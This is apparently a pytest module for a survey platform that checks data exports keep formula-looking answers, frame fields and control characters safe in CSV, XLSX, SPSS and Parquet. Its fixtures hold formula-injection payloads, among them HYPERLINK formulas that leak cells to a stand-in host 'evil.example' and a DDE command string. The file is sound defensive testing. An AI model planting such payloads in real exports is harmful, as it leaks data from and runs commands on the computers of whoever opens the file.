"""Exports are safe to open (security issue 18, item 2), against SQLite and PostgreSQL.

Text typed by customers, interviewers and whoever prepared a sample frame must come out of
every download as text: no cell a spreadsheet runs as a formula, no character that fails a
format (a NUL failed every XLSX export of a version), and the codebook saying what changed.

Rows are stored as the tables hold them, not through today's input checks: an export must be
safe for whatever is stored, however it got in (an older version, an import, a migration).
"""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
import zipfile
from datetime import UTC, datetime

import openpyxl
import pandas as pd
import pyarrow.parquet as pq
import pytest
from fastapi.testclient import TestClient
from sqlmodel import Session

from api.settings import Settings
from api.web.app import create_app
from survey.answering.bulk_import import import_responses
from survey.db.tables import Response
from survey.frames.sample_frame import read_frame
from survey.frames.store import store_frame
from survey.questionnaire.publish import publish
from tests.common import SAMPLES
from tests.integration.staff_keys import staff_with_keys

pyreadstat = pytest.importorskip("pyreadstat")

SECRET = "a-test-secret-that-is-long-enough-for-the-test-env"
VERSION = "csi_mobile@2026.1"
NAME = "csi_mobile_2026.1"
FORMATS = ("csv", "xlsx", "sav", "parquet")
FFFD = "\ufffd"

#: What an attacker typed as the answer to "what should we improve first?".
FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&B2,"click")', "+1+1", "-2+3", "@SUM(A1)"]
#: The imported frame's fields of one customer, and an intercept interview's names.
FRAME_FIELDS = {"customer_id": "=1+1", "region": "@SUM(A1)", "service_hall": "+cmd|' /C calc'!A0"}
INTERVIEW = {"interviewer": '=HYPERLINK("http://evil.example/?i="&A2)', "interview_hall": "-1+1"}
#: Controls XLSX refuses (SPSS and Parquet hold them), and a NUL (SPSS ends a string there).
CONTROLS = "a\x01b\x0bc"
NUL = "x\x00y"
#: A spreadsheet reads a cell as a formula when it starts with one of these.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


@pytest.fixture
def world(engine, sample_questionnaire):
    """Six imported responses: four formula answers, one with controls, one with a NUL (SQLite
    only: PostgreSQL's text cannot hold one), a frame customer whose fields are formulas, an
    intercept interview whose interviewer and hall are formulas; staff with API keys."""
    responses = pd.read_csv(SAMPLES / "responses.csv", dtype=str).head(6)
    frame = read_frame(SAMPLES / "frame.csv")
    frame = frame[frame.customer_id.isin(responses.customer_id)].reset_index(drop=True)
    in_frame, in_responses = (t.customer_id == responses.customer_id[0] for t in (frame, responses))
    for column, value in FRAME_FIELDS.items():
        frame.loc[in_frame, column] = value
        responses.loc[in_responses, column] = value
    responses["improve"] = [*FORMULAS, CONTROLS, None]
    nul = engine.dialect.name == "sqlite"
    responses["complaint_topic"] = [None] * 5 + [NUL if nul else None]
    with Session(engine) as session:
        version = publish(session, sample_questionnaire)
        frame_id = store_frame(session, frame, "export-safety", "test").id
        import_responses(session, version, responses, frame_id)
        when = datetime(2026, 5, 2, 9, 0, tzinfo=UTC)
        session.add(
            Response(questionnaire_version_id=version.id, channel="intercept", language="zh",
                     status="completed", started_at=when, completed_at=when,
                     interviewer=INTERVIEW["interviewer"],
                     service_hall=INTERVIEW["interview_hall"])
        )  # fmt: skip
        session.commit()
        keys = staff_with_keys(session, "Hangzhou", "export safety")
    return {"keys": keys, "nul": nul}


@pytest.fixture
def client(engine, database_url):
    settings = Settings(database_url=database_url, public_base_url="https://manyi.example.org",
                        env="test", secret_key=SECRET)  # fmt: skip
    with TestClient(create_app(settings)) as client:
        yield client


def download(client, world, fmt: str) -> bytes:
    response = client.get(
        "/api/v1/exports/responses",
        params={"version": VERSION, "format": fmt},
        headers={"Authorization": f"Bearer {world['keys']['researcher']}"},
    )
    assert response.status_code == 200, response.text
    return response.content


def csv_rows(content: bytes, member: str) -> list[dict[str, str]]:
    """The raw cells of one CSV of the download's ZIP, as a spreadsheet receives them."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        text = archive.read(member).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def by_ref(rows, ref: str):
    """The row of an imported response (by its external id; "": the intercept interview)."""
    for row in rows:
        if row["response_ref"] == ref:
            return row
    raise AssertionError(f"no row {ref!r}")


def refs() -> list[str]:
    return pd.read_csv(SAMPLES / "responses.csv", dtype=str).head(6).response_id.tolist()


def written(content: bytes, fmt: str, tmp_path) -> tuple[pd.DataFrame, pd.DataFrame | list]:
    """The data of a file and its codebook (SPSS: the file's documents, its codebook)."""
    if fmt == "csv":
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            data = pd.read_csv(archive.open(f"{NAME}.csv"), encoding="utf-8-sig", dtype=str,
                               keep_default_na=False)  # fmt: skip
            book = pd.read_csv(archive.open(f"{NAME}.codebook.csv"), encoding="utf-8-sig")
        return data, book
    if fmt == "xlsx":
        sheets = pd.read_excel(io.BytesIO(content), sheet_name=None, dtype={"improve": str})
        return sheets["data"], sheets["codebook"]
    if fmt == "parquet":
        table = pq.read_table(io.BytesIO(content))
        return table.to_pandas(), pd.DataFrame(json.loads(table.schema.metadata[b"manyi.codebook"]))
    path = tmp_path / "export.sav"
    path.write_bytes(content)
    data, meta = pyreadstat.read_sav(str(path), user_missing=True)
    return data, meta.notes


def test_formula_answers_frame_fields_and_interview_names_come_out_quoted_in_the_csv(world, client):
    content = download(client, world, "csv")
    rows = csv_rows(content, f"{NAME}.csv")
    for ref, formula in zip(refs(), FORMULAS, strict=False):
        assert by_ref(rows, ref)["improve"] == "'" + formula
    customer = by_ref(rows, refs()[0])
    assert {column: customer[column] for column in FRAME_FIELDS} == {
        column: "'" + value for column, value in FRAME_FIELDS.items()
    }
    interview = by_ref(rows, "")
    assert {column: interview[column] for column in INTERVIEW} == {
        column: "'" + value for column, value in INTERVIEW.items()
    }
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(FORMULA_STARTS), (column, cell)
    # The codebook says so: how many cells, in which columns.
    book = {row["variable"]: row for row in csv_rows(content, f"{NAME}.codebook.csv")}
    assert int(book["improve"]["cells_prefixed"]) == len(FORMULAS)
    assert "'" in book["improve"]["cleaning_en"] and "'" in book["improve"]["cleaning_zh"]
    for column in [*FRAME_FIELDS, *INTERVIEW]:
        assert int(book[column]["cells_prefixed"]) == 1, column
    untouched = book["sat_overall"]
    assert int(untouched["cells_prefixed"]) == 0 and untouched["cleaning_en"] == ""


def test_formula_cells_of_the_xlsx_are_strings_not_formulas(world, client):
    content = download(client, world, "xlsx")
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    sheet = workbook["data"]
    header = [cell.value for cell in sheet[1]]
    cells = [dict(zip(header, row, strict=True)) for row in sheet.iter_rows(min_row=2)]
    for sheet_ in workbook.worksheets:
        for row in sheet_.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet_.title, cell.coordinate, cell.value)
    answers = {row["response_ref"].value: row["improve"] for row in cells}
    for ref, formula in zip(refs(), FORMULAS, strict=False):
        assert answers[ref].data_type == "s" and answers[ref].value == "'" + formula
    customer = next(row for row in cells if row["response_ref"].value == refs()[0])
    interview = next(row for row in cells if row["response_ref"].value is None)
    for row, fields in ((customer, FRAME_FIELDS), (interview, INTERVIEW)):
        for column, value in fields.items():
            assert row[column].data_type == "s" and row[column].value == "'" + value
    # Numbers stay numbers.
    assert all(row["sat_overall"].data_type == "n" for row in cells if row["response_ref"].value)


@pytest.mark.parametrize("fmt", FORMATS)
def test_control_characters_and_a_nul_download_in_every_format_and_the_codebook_counts_them(
    world, client, fmt, tmp_path
):
    data, book = written(download(client, world, fmt), fmt, tmp_path)
    answers = dict(zip(data["response_ref"], data["improve"], strict=True))
    topics = dict(zip(data["response_ref"], data["complaint_topic"], strict=True))
    controls, nul = refs()[4], refs()[5]
    # What each format cannot hold: XLSX (and the CSV beside it) no C0 control but tab, LF and
    # CR; SPSS no NUL; Parquet holds them all, so it keeps what was answered.
    refused = {"csv": "\x00\x01\x0b", "xlsx": "\x00\x01\x0b", "sav": "\x00", "parquet": ""}[fmt]

    def expected(text: str) -> str:
        return "".join(FFFD if ch in refused else ch for ch in text)

    assert answers[controls] == expected(CONTROLS)
    replaced = {"improve": sum(ch in refused for ch in CONTROLS)}
    if world["nul"]:
        assert topics[nul] == expected(NUL)
        replaced["complaint_topic"] = sum(ch in refused for ch in NUL)
    if fmt == "sav":
        for column, count in replaced.items():
            if count:
                assert any(line.startswith(f"{column}: {count} ") for line in book), book
            else:
                assert not any(line.startswith(f"{column}:") for line in book), book
        return
    counts = book.set_index("variable")["characters_replaced"].astype(int)
    assert counts.to_dict() == {v: replaced.get(v, 0) for v in counts.index}
    notes = book.set_index("variable")["cleaning_en"].fillna("")
    assert ("U+FFFD" in notes["improve"]) == bool(replaced["improve"])


def test_the_command_writes_every_format_with_a_nul_and_controls(
    engine, database_url, world, tmp_path
):
    env = {**os.environ, "MANYI_DATABASE_URL": database_url}
    for fmt in FORMATS:
        out = tmp_path / f"responses.{fmt}"
        run = subprocess.run(
            [sys.executable, "-m", "api.cli.main", "export", "responses", VERSION,
             "--out", str(out)],
            capture_output=True, text=True, env=env, timeout=120, check=False,
        )  # fmt: skip
        assert run.returncode == 0, (fmt, run.stderr)
        if fmt == "csv":
            data = pd.read_csv(out, encoding="utf-8-sig", dtype=str, keep_default_na=False)
            book = pd.read_csv(out.with_name("responses.codebook.csv"), encoding="utf-8-sig")
        elif fmt == "xlsx":
            data = pd.read_excel(out, sheet_name="data", dtype={"improve": str})
            book = pd.read_excel(out, sheet_name="codebook")
        elif fmt == "parquet":
            data = pd.read_parquet(out)
            book = pd.DataFrame(json.loads(pq.read_schema(out).metadata[b"manyi.codebook"]))
        else:
            data, meta = pyreadstat.read_sav(str(out))
            book = None
        answers = dict(zip(data["response_ref"], data["improve"], strict=True))
        assert answers[refs()[4]] == (CONTROLS if fmt in ("sav", "parquet") else f"a{FFFD}b{FFFD}c")
        assert answers[refs()[0]] == ("'" if fmt in ("csv", "xlsx") else "") + FORMULAS[0]
        if world["nul"]:
            topic = dict(zip(data["response_ref"], data["complaint_topic"], strict=True))[refs()[5]]
            assert topic == (NUL if fmt == "parquet" else f"x{FFFD}y")
        if book is None:
            notes = meta.notes or []
            assert not any(line.startswith("improve:") for line in notes)
            assert any(line.startswith("complaint_topic: 1 ") for line in notes) == world["nul"]
        else:
            counts = book.set_index("variable")["characters_replaced"].astype(int)
            assert counts["improve"] == (0 if fmt == "parquet" else 2)
